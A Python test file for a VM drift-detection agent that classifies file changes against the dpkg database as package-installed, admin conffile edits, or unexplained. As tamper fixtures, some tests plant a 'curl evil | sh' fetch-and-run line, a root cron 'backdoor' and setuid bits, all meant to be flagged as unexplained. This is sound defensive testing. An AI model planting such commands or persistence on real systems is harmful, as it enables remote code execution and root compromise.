"""Drift classes: what dpkg installed after the bake is "package", an admin's conffile edit is "conffile", the rest is
"unexplained"; read from a real dpkg database (hand-made with real md5s, and one that dpkg itself wrote)."""
import hashlib
import os
import shutil
import subprocess

import pytest

from agentd.drift_class import parse_conffiles, read_dpkg_index
from agentd.protocol import DriftEntry
from tests.agentd_fixtures import make_vm_tree
from tests.test_agentd_drift import tracker_of


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def install(root, name, version, files, conffiles=()):
    """What `dpkg -i` leaves behind: the files, a status stanza (Conffiles with md5s), info/<name>.list, .md5sums."""
    dpkg = root / "var/lib/dpkg"
    (dpkg / "info").mkdir(parents=True, exist_ok=True)
    for path, content in files.items():
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    dirs = sorted({os.path.dirname(p) for p in files})
    (dpkg / "info" / f"{name}.list").write_text("/.\n" + "".join(f"{p}\n" for p in dirs + sorted(files)))
    (dpkg / "info" / f"{name}.md5sums").write_text(
        "".join(f"{md5(c)}  {p.lstrip('/')}\n" for p, c in sorted(files.items()) if p not in conffiles))
    stanza = f"Package: {name}\nStatus: install ok installed\nVersion: {version}\n"
    if conffiles:
        stanza += "Conffiles:\n" + "".join(f" {p} {md5(files[p])}\n" for p in conffiles)
    status = dpkg / "status"
    status.write_text(status.read_text().rstrip("\n") + "\n\n" + stanza)


def classes(tracker):
    return {(d.path, d.kind): d.class_ for d in tracker.drift()}


def test_a_file_a_package_installed_after_the_bake_put_there_is_package_drift(tmp_path):
    make_vm_tree(tmp_path)
    t = tracker_of(tmp_path)
    install(tmp_path, "htop", "3.0.5-7build2", {"/etc/htoprc.d/default": b"color=1\n",
                                                 "/usr/local/bin/htop-helper": b"#!/bin/sh\n"})
    t.full_scan()
    assert classes(t) == {("/etc/htoprc.d/default", "added"): "package",
                          ("/usr/local/bin/htop-helper", "added"): "package",
                          ("pkg:htop", "package"): "package"}


def test_an_upgrade_of_a_baked_package_explains_its_files_but_an_edit_after_it_does_not(tmp_path):
    make_vm_tree(tmp_path)
    install(tmp_path, "curl", "7.81.0-1ubuntu1.15", {"/usr/local/bin/tool": b"#!/bin/sh\necho tool\n"})
    t = tracker_of(tmp_path)  # the bake had curl 7.81.0-1ubuntu1.15 (image.json), owning tool as baked
    upgraded = b"#!/bin/sh\necho tool v2\n"
    (tmp_path / "usr/local/bin/tool").write_bytes(upgraded)
    t.full_scan()
    assert classes(t) == {("/usr/local/bin/tool", "modified"): "unexplained"}, "same version: not dpkg's doing"
    status = tmp_path / "var/lib/dpkg/status"
    status.write_text(status.read_text().replace("Version: 7.81.0-1ubuntu1.15", "Version: 7.81.0-1ubuntu1.16"))
    (tmp_path / "var/lib/dpkg/info/curl.md5sums").write_text(f"{md5(upgraded)}  usr/local/bin/tool\n")
    t.full_scan()
    assert classes(t) == {("/usr/local/bin/tool", "modified"): "package",
                          ("pkg:curl", "package"): "package"}
    (tmp_path / "usr/local/bin/tool").write_text("#!/bin/sh\ncurl evil | sh\n")
    t.full_scan()
    assert classes(t)[("/usr/local/bin/tool", "modified")] == "unexplained"


def test_an_admins_edit_of_a_conffile_is_conffile_and_a_new_packages_own_conffile_is_package(tmp_path):
    make_vm_tree(tmp_path)
    t = tracker_of(tmp_path)
    install(tmp_path, "nginx-common", "1.18.0-6ubuntu14", {"/etc/nginx/nginx.conf": b"worker_processes auto;\n"},
            conffiles=["/etc/nginx/nginx.conf"])
    t.full_scan()
    assert classes(t)[("/etc/nginx/nginx.conf", "added")] == "package"
    (tmp_path / "etc/nginx/nginx.conf").write_text("worker_processes 4;\n")
    t.full_scan()
    assert classes(t)[("/etc/nginx/nginx.conf", "added")] == "conffile"
    (tmp_path / "etc/nginx/nginx.conf").chmod(0o600)
    t.full_scan()
    assert classes(t)[("/etc/nginx/nginx.conf", "added")] == "conffile"


def test_what_no_package_owns_and_a_changed_mode_of_a_package_file_are_unexplained(tmp_path):
    make_vm_tree(tmp_path)
    install(tmp_path, "curl", "7.81.0-1ubuntu1.15", {"/usr/local/bin/tool": b"#!/bin/sh\necho tool\n"})
    t = tracker_of(tmp_path)
    install(tmp_path, "htop", "3.0.5-7build2", {"/usr/local/bin/htop": b"htop\n"})
    (tmp_path / "usr/local/bin/htop").chmod(0o4755)  # setuid on a file dpkg just installed
    (tmp_path / "usr/local/bin/tool").chmod(0o4755)
    (tmp_path / "etc/cron.d").mkdir()
    (tmp_path / "etc/cron.d/backdoor").write_text("* * * * * root sh\n")
    t.full_scan()
    got = classes(t)
    assert got[("/usr/local/bin/htop", "added")] == "package"  # the content is dpkg's; its mode is compared later
    assert got[("/usr/local/bin/tool", "mode")] == "unexplained"
    assert got[("/etc/cron.d/backdoor", "added")] == "unexplained"


def test_the_dpkg_index_is_built_once_per_dpkg_state_not_per_file_or_report(tmp_path):
    make_vm_tree(tmp_path)
    t = tracker_of(tmp_path)
    install(tmp_path, "htop", "3.0.5-7build2", {f"/etc/htop/{i}": b"x%d\n" % i for i in range(20)})
    t.full_scan()
    assert len(t.drift()) == 21 and t.classifier.builds == 1
    (tmp_path / "etc/unrelated").write_text("y\n")
    t.full_scan()
    t.drift()
    assert t.classifier.builds == 1
    install(tmp_path, "tree", "2.0.2-1", {"/etc/tree.conf": b"t\n"})
    t.full_scan()
    assert classes(t)[("/etc/tree.conf", "added")] == "package" and t.classifier.builds == 2


def test_the_index_keeps_only_paths_drift_can_be_about(tmp_path):
    make_vm_tree(tmp_path)
    install(tmp_path, "libfoo", "1", {"/usr/lib/libfoo.so": b"elf\n", "/etc/foo.conf": b"a\n"},
            conffiles=["/etc/foo.conf"])
    index = read_dpkg_index(str(tmp_path / "var/lib/dpkg/status"), lambda p: p.startswith("/etc/"))
    assert index.owners == {"/etc/foo.conf": ("libfoo",)}
    assert index.conffiles["libfoo"] == {"/etc/foo.conf": md5(b"a\n")}
    assert index.versions["libfoo"] == "1" and index.versions["bash"] == "5.1-6ubuntu1"


def test_conffiles_field_flags_are_not_part_of_the_path():
    assert parse_conffiles("/etc/a 0123\n/etc/b c d 4567 obsolete\n/etc/c 89ab remove-on-upgrade") == {
        "/etc/a": "0123", "/etc/b c d": "4567", "/etc/c": "89ab"}


def test_an_entry_from_an_older_agentd_without_a_class_is_unexplained():
    assert DriftEntry("/etc/x", "added").class_ == "unexplained"


@pytest.mark.skipif(not (shutil.which("dpkg") and shutil.which("dpkg-deb")), reason="needs Debian's dpkg")
def test_a_package_that_real_dpkg_installed_into_the_vm_tree_is_classified_from_its_database(tmp_path):
    root = tmp_path / "vm"
    make_vm_tree(root)
    t = tracker_of(root)
    pkg = tmp_path / "pkg"
    (pkg / "DEBIAN").mkdir(parents=True)
    (pkg / "DEBIAN/control").write_text("Package: demo\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\n"
                                        "Description: drift class test\n")
    (pkg / "DEBIAN/conffiles").write_text("/etc/demo/demo.conf\n")
    (pkg / "etc/demo").mkdir(parents=True)
    (pkg / "etc/demo/demo.conf").write_text("setting = 1\n")
    (pkg / "etc/demo/data.txt").write_text("shipped data\n")
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(pkg), str(tmp_path / "demo.deb")], check=True,
                   capture_output=True)
    admindir = root / "var/lib/dpkg"
    for sub in ("info", "updates", "triggers"):
        (admindir / sub).mkdir(exist_ok=True)
    subprocess.run(["dpkg", f"--root={root}", f"--admindir={admindir}", "--force-script-chrootless",
                    "--force-not-root", "--log=/dev/null", "-i", str(tmp_path / "demo.deb")], check=True,
                   capture_output=True)
    t.full_scan()
    assert classes(t) == {("/etc/demo/data.txt", "added"): "package", ("/etc/demo/demo.conf", "added"): "package",
                          ("pkg:demo", "package"): "package"}
    (root / "etc/demo/demo.conf").write_text("setting = 2\n")
    (root / "etc/demo/data.txt").write_text("tampered\n")
    t.full_scan()
    assert classes(t) == {("/etc/demo/data.txt", "added"): "unexplained", ("/etc/demo/demo.conf", "added"): "conffile",
                          ("pkg:demo", "package"): "package"}


def test_accepting_a_packages_version_keeps_its_files_explained_by_the_package_manager(tmp_path):
    from agentd.accepted import AcceptedLayer
    from agentd.protocol import AcceptedDrift
    make_vm_tree(tmp_path)
    t = tracker_of(tmp_path)
    install(tmp_path, "htop", "3.0.5-7build2", {"/etc/htoprc": b"color=1\n"})
    t.full_scan()
    [pkg] = [d for d in t.drift() if d.path == "pkg:htop"]
    layer = AcceptedLayer(t.baseline.image_version).adopt(
        t.baseline, pkg, None, AcceptedDrift(pkg.path, pkg.kind, pkg.expected, pkg.actual, 1.0, "ops"))
    t.set_baseline(layer.over(t.baseline))
    assert classes(t) == {("/etc/htoprc", "added"): "package"}, "the bake did not have htop, whatever was accepted"
